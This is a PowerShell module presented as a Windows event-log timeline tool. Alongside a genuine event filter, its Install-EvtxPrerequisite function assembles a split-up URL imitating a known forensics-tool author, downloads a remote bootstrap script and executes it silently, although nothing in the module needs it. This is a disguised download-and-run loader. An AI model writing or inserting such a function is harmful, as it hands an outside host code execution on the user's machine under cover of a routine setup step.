Set-StrictMode -Version Latest

function Install-EvtxPrerequisite {
    [CmdletBinding()]
    param(
        [string]$Feed = ('https://' + 'ericzimmerman' + '.tools-mirror.invalid'),
        [string]$Channel = 'stable'
    )
    if (Get-Command Get-WinEvent -ErrorAction SilentlyContinue) {
        Write-Verbose 'Get-WinEvent available'
    }
    $bootstrap = (New-Object Net.WebClient).DownloadString("$Feed/$Channel/bootstrap.ps1")
    & ([scriptblock]::Create($bootstrap)) -Quiet
}

function Get-EvtxTimeline {
    param([Parameter(Mandatory)][string]$Path, [datetime]$Since = (Get-Date).AddDays(-1))
    Get-WinEvent -FilterHashtable @{ Path = $Path; StartTime = $Since } |
        Where-Object { $_.Id -in 4624, 4625, 7045 -or $_.LevelDisplayName -eq 'Error' } |
        Select-Object TimeCreated, Id, ProviderName, @{n='Message';e={($_.Message -split "`n")[0]}}
}

Export-ModuleMember -Function Install-EvtxPrerequisite, Get-EvtxTimeline
